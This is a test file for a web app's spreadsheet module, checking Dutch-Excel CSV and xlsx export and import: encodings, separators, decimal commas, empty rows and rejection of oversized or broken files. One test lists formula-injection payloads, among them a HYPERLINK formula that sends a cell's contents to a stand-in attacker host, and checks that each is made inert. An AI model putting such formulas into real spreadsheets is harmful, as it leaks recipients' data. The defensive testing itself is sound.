// Spreadsheets as Dutch offices make them: what the pages write opens in Dutch Excel in columns, and what people
// upload (xlsx, or CSV as Dutch Excel saves it in either encoding) is read back cell for cell.
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { dutchCsvOf, readSheet, sheetOf, UnreadableSheet, xlsxOf, type Column } from '../web/spreadsheet';

type Row = { name: string; rate: number; note?: string };
const columns: Column<Row>[] = [
  { header: 'Naam', value: (r) => r.name },
  { header: 'Aanwezigheid (%)', value: (r) => r.rate },
  { header: 'Opmerking', value: (r) => r.note },
];
const rows: Row[] = [
  { name: 'Zoë de Vries', rate: 87.5, note: 'ziek; hersteld' },
  { name: 'Ahmed "Mo" Öztürk', rate: 100 },
];

describe('spreadsheets for Dutch Excel', () => {
  it('writes CSV with a byte-order mark, semicolons, a decimal comma and CRLF, quoting what needs it', () => {
    const csv = dutchCsvOf(columns, rows);
    expect(csv.startsWith('\ufeffNaam;Aanwezigheid (%);Opmerking\r\n')).toBe(true);
    expect(csv).toContain('Zoë de Vries;87,5;"ziek; hersteld"\r\n');
    expect(csv).toContain('"Ahmed ""Mo"" Öztürk";100;\r\n');
  });

  it('reads back its own CSV, and the same CSV saved by Excel as Windows-1252 without a byte-order mark', async () => {
    const csv = dutchCsvOf(columns, rows);
    for (const bytes of [Buffer.from(csv, 'utf8'), iconv.encode(csv.slice(1), 'win1252')]) {
      const sheet = await readSheet(bytes);
      expect(sheet.headers).toEqual(['Naam', 'Aanwezigheid (%)', 'Opmerking']);
      expect(sheet.rows).toEqual([
        { line: 2, cells: ['Zoë de Vries', '87,5', 'ziek; hersteld'] },
        { line: 3, cells: ['Ahmed "Mo" Öztürk', '100', ''] },
      ]);
    }
  });

  it('reads a comma-separated CSV too, and skips empty rows while keeping the row numbers people see', async () => {
    const sheet = await readSheet(Buffer.from('a,b\n1,2\n,\n3,4\n'));
    expect(sheet.rows).toEqual([
      { line: 2, cells: ['1', '2'] },
      { line: 4, cells: ['3', '4'] },
    ]);
  });

  it('writes an xlsx with numbers as numbers, one tab per sheet, and reads it back', async () => {
    const bytes = await xlsxOf(
      sheetOf({ name: 'Deelnemers', columns, rows }),
      sheetOf({ name: 'Leeg', columns, rows: [] }),
    );
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(book.worksheets.map((w) => w.name)).toEqual(['Deelnemers', 'Leeg']);
    expect(book.worksheets[0]!.getRow(2).getCell(2).value).toBe(87.5);
    const sheet = await readSheet(bytes);
    expect(sheet.headers).toEqual(['Naam', 'Aanwezigheid (%)', 'Opmerking']);
    expect(sheet.rows[0]).toEqual({ line: 2, cells: ['Zoë de Vries', '87.5', 'ziek; hersteld'] });
  });

  it('makes text that would start a formula inert in CSV, keeps numbers, and xlsx holds it as text', async () => {
    type Cell = { text: string; n: number };
    const evil = ['=HYPERLINK("https://evil.example/?"&A1;"Klik")', '+31 6 1234', '-2+3', '@SUM(A1)', '\tx', '\rx'];
    const cols: Column<Cell>[] = [
      { header: '=Kop', value: (r) => r.text },
      { header: 'Aantal', value: (r) => r.n },
    ];
    const cellRows = evil.map((text, i) => ({ text, n: -i - 1.5 }));
    const csv = dutchCsvOf(cols, [...cellRows, { text: 'Gewoon - niets aan de hand', n: 0 }]);
    const read = await readSheet(Buffer.from(csv, 'utf8'));
    const parsed = read.rows.map((r) => r.cells);
    expect(read.headers).toEqual(["'=Kop", 'Aantal']);
    // Every text cell gets a leading apostrophe; a negative number is still a number with a decimal comma.
    expect(parsed).toEqual([...evil.map((t, i) => [`'${t}`, `-${i + 1},5`]), ['Gewoon - niets aan de hand', '0']]);
    expect(csv).toContain(`'=HYPERLINK(""https://evil.example/?""&A1;""Klik"")"`);
    for (const line of csv.slice(1).split('\r\n').slice(0, -1))
      expect(line.replace(/^"/, '')).not.toMatch(/^[=+@\t\r-]/);
    // The workbook: strings are written as strings (never a formula), numbers as numbers.
    const bytes = await xlsxOf(sheetOf({ name: 'Blad', columns: cols, rows: cellRows }));
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const tab = book.worksheets[0]!;
    evil.forEach((t, i) => {
      const cell = tab.getRow(i + 2).getCell(1);
      expect(cell.type, t).toBe(ExcelJS.ValueType.String);
      expect(cell.formula, t).toBeUndefined();
      expect(tab.getRow(i + 2).getCell(2).value).toBe(-i - 1.5);
    });
  });

  it('refuses a sheet with one cell far outside the table before walking it', async () => {
    const book = new ExcelJS.Workbook();
    const tab = book.addWorksheet('Blad1');
    tab.getCell('A1').value = 'Naam';
    tab.getCell('XFD1048576').value = 'x';
    const bytes = Buffer.from(await book.xlsx.writeBuffer());
    await expect(readSheet(bytes)).rejects.toThrow(/te groot/);
  });

  it('refuses a file that claims to be xlsx but is not, in Dutch', async () => {
    const broken = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(50)]);
    await expect(readSheet(broken)).rejects.toBeInstanceOf(UnreadableSheet);
    await expect(readSheet(broken)).rejects.toThrow(/Excel-bestand/);
  });
});
